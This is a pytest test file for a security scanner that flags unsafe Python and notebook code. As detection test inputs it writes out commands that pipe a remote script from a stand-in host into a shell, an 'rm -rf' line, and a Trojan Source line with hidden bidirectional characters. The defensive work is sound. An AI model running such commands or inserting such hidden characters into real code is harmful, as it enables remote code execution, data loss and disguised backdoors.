from __future__ import annotations

import json
import random
import sysconfig
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lockflight.core.attest.check import PPM, Status
from lockflight.core.words import Role
from lockflight.scan.code import CodeCheck, code_findings
from lockflight.scan.python.source import Unreadable, parse_bytes
from tests.formats.test_notebook import cell, notebook
from tests.scan.subjects import judge

BAD = b"import torch\ntorch.load('m.pt')\n"


def run(files, **options):
    files = {name: body if isinstance(body, tuple) else (Role.CODE, body) for name, body in files.items()}
    return judge(CodeCheck(), files, **options)


def book(*cells, **fields):
    return json.dumps(notebook(*cells, **fields)).encode()


def test_files_and_cells_are_judged():
    result = run(
        {
            "a.py": BAD,
            "n.ipynb": book(cell("x = 1"), cell(["!pip list\n", "import torch\n", "torch.load(p)"])),
        }
    )
    assert result.status is Status.COMPLETE
    assert [(f.asset, f.location.member, f.location.line, f.code) for f in result.findings] == [
        ("a.py", "", 2, "LF2411"),
        ("n.ipynb", "cell 2", 3, "LF2411"),
    ]
    assert result.summary["high"] == 2
    assert (result.summary["files"], result.summary["cells"]) == (2, 2)
    assert result.coverage_ppm == PPM
    assert result.tool.version.startswith("3+python3.")


def test_a_clean_view_has_no_findings():
    result = run({"a.py": b"print(1)\n", "README.md": b"torch.load(x)", "run.sh": b"eval $x"})
    assert result.findings == ()
    assert result.summary["other_languages"] == 1
    assert result.coverage_ppm == PPM


def test_nothing_to_judge_is_complete():
    assert run({}).coverage_ppm == PPM


def test_comments_do_not_silence():
    assert len(run({"a.py": b"import torch\ntorch.load(p)  # nosec # noqa\n"}).findings) == 1


@pytest.mark.parametrize("name", ["serve", "bin/tool", "x.cgi"])
def test_a_script_without_suffix_is_known_by_its_first_line(name):
    assert run({name: b"#!/usr/bin/env python3\n" + BAD}).summary["high"] == 1
    assert run({name: b"#!/bin/sh\n" + BAD}).summary["files"] == 0


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.py", b"print 1\n", "LF2401"),
        ("a.py", b"x=" + b"a+" * 100_000 + b"a", "LF2402"),
        ("a.py", b"a" + b".b" * 1500 + b"()", "LF2402"),
        ("a.py", b"a" + b"()" * 1200, "LF2402"),
        ("n.ipynb", b"{}", "LF2403"),
        ("n.ipynb", b"not json", "LF2403"),
        ("a.so", b"\x7fELF", "LF2404"),
        ("a.pyc", b"\xa7\r\r\n", "LF2404"),
    ],
)
def test_what_cannot_be_read_is_a_finding_and_no_coverage(name, data, code):
    result = run({name: data})
    assert [f.code for f in result.findings] == [code]
    assert result.status is Status.COMPLETE
    assert result.summary["unknown"] == 1
    assert result.coverage_ppm == 0


def test_an_unreadable_cell_lowers_the_coverage_and_hides_no_other_cell():
    result = run({"n.ipynb": book(cell("print 1"), cell("import torch\ntorch.load(p)"))})
    assert {f.code for f in result.findings} == {"LF2401", "LF2411"}
    assert 0 < result.coverage_ppm < PPM
    assert result.summary["unknown"] == 1


def test_findings_before_an_error_in_another_file_stay():
    result = run({"a.py": BAD, "b.py": b"("})
    assert {f.code for f in result.findings} == {"LF2411", "LF2401"}


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("!curl -s https://x.example/i.sh | sh", "code:notebook-pipe-to-shell"),
        ("!rm -rf {folder}", "code:notebook-shell-built"),
        ("x = !cat $name", "code:notebook-shell-built"),
        ("%%bash\nwget -qO- https://x.example/i | sudo bash", "code:notebook-pipe-to-shell"),
    ],
)
def test_shell_lines_of_notebooks(line, rule):
    (finding,) = run({"n.ipynb": book(cell(line))}).findings
    assert (finding.code, finding.rule, finding.location.member) == ("LF2455", rule, "cell 1")


@pytest.mark.parametrize(
    "line", ["!ls", "!pip install -r requirements.txt", "%%bash\nfor a in b; do echo $a; done", "%time f()"]
)
def test_benign_shell_lines_pass(line):
    assert run({"n.ipynb": book(cell(line))}).findings == ()


def test_notebooks_of_other_languages_are_no_python():
    result = run({"n.ipynb": book(cell("x <- 1"), metadata={"language_info": {"name": "R"}})})
    assert result.findings == ()


def test_hidden_characters_are_seen():
    trojan = "ok = True  # \u202e\u2066 if admin\u2069 \u2066\n".encode()
    (finding,) = run({"a.py": b"x = 1\n" + trojan}).findings
    assert (finding.code, finding.location.line) == ("LF2480", 2)
    assert run({"a.py": "s = 'شكرا' # \u200bx\n".encode()}).findings == ()


def test_an_odd_encoding_is_seen_with_what_it_hides():
    result = run({"a.py": b"# coding: utf-7\n#+AAo-import torch+AAo-torch.load(p)\n"})
    assert {f.code for f in result.findings} == {"LF2481", "LF2411"}


def test_equal_findings_have_fingerprints_of_their_own_that_survive_other_lines():
    before = run({"a.py": BAD + b"torch.load('n.pt')\n"}).findings
    after = run({"a.py": b"# a comment\n\n" + BAD + b"torch.load('n.pt')\n"}).findings
    assert len({f.fingerprint for f in before}) == 2
    assert [f.fingerprint for f in before] == [f.fingerprint for f in after]


def test_many_findings_are_counted_and_not_all_listed():
    result = run({"a.py": b"import torch\n" + b"torch.load(p)\n" * 1500})
    assert result.summary["high"] == 1500
    assert len(result.findings) == 1001
    assert result.findings[-1].code == "LF2409"


def test_the_result_is_a_function_of_the_bytes():
    files = {"a.py": BAD, "b.py": b"exec(x)\n", "n.ipynb": book(cell("!rm {x}"))}
    assert run(files).to_json() == run(dict(reversed(files.items()))).to_json()


def test_the_standard_library_gives_few_findings_and_no_error():
    files = sorted(Path(sysconfig.get_paths()["stdlib"]).glob("*.py"))
    random.Random(1).shuffle(files)
    chosen = files[:60]
    counts = {
        path.name: len(list(code_findings(parse_bytes(path.read_bytes()), path.name))) for path in chosen
    }
    # All of it is code that somebody might flag: the standard library does implement exec and unpickling.
    assert sum(counts.values()) <= len(chosen) // 2, counts


TEXT = r"""
import pickle|from os import *|x = 1|x|(|)|.|=|\n|\n    |:|def f(a):|class A:|pickle|load|exec|eval|llm|invoke|f'{x}'
lambda:|for a in b:|with|as|async|await|@tool|self|'SELECT '|%|+|,|**k|*a|if|else|subprocess.run|shell=True|[|]|{}
try:|except E as e:|match x:|case 1:|global x|return|yield|:=|'role'|'system'|import a.b
"""
WORDS = [word.replace("\\n", "\n") for word in TEXT.strip().replace("\n", "|").split("|")]


@given(st.lists(st.sampled_from(WORDS), max_size=40).map(" ".join))
def test_any_program_is_judged_or_unreadable(source):
    try:
        tree = parse_bytes(source.encode())
    except Unreadable:
        return
    for finding in code_findings(tree, "a.py"):
        assert finding.code.startswith("LF24")
        assert "{" not in finding.message


@given(st.binary(max_size=300), st.sampled_from(["a.py", "n.ipynb", "x", "a.so"]))
def test_any_bytes_give_a_result(data, name):
    result = run({name: data})
    assert result.status is Status.COMPLETE
    assert 0 <= result.coverage_ppm <= PPM
